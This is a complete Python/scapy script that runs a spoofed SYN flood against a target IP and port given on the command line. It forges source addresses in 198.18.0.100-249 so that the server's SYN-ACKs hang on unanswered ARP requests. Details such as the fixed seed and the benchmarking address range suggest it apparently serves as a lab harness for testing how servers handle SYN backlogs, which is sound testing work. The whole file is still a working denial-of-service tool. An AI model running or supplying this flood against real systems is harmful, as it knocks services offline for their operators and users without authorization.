#!/usr/bin/python3
"""A slow SYN flood from absent hosts on the subnet (Debian's python3-scapy; run it with /usr/bin/python3).

  spoofed_syns.py IFACE DST PORT BURST RATE SECONDS

Sends BURST SYNs at once, then RATE per second for SECONDS, each from a source in 198.18.0.100-249 that
no host owns (so the server's SYN-ACK waits on an ARP request nobody answers) and a random source port.
Prints "sent=N".
"""
import random
import sys
import time

from scapy.all import IP, TCP, Ether, conf, getmacbyip, sendp  # noqa: E402

conf.verb = 0


def main():
    iface, dst, port, burst, rate, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5]), float(sys.argv[6])
    rng = random.Random(20261202)
    mac = getmacbyip(dst)
    if mac is None:
        sys.exit(f"no ARP answer from {dst}")

    def syn(i):
        src = f"198.18.0.{100 + i % 150}"
        return Ether(dst=mac) / IP(src=src, dst=dst) / TCP(sport=rng.randint(1024, 65535), dport=port, flags="S", seq=rng.getrandbits(32))

    sent = 0
    sendp([syn(i) for i in range(burst)], iface=iface)
    sent += burst
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        sendp(syn(sent), iface=iface)
        sent += 1
        time.sleep(1.0 / rate)
    print(f"sent={sent}", flush=True)


if __name__ == "__main__":
    main()
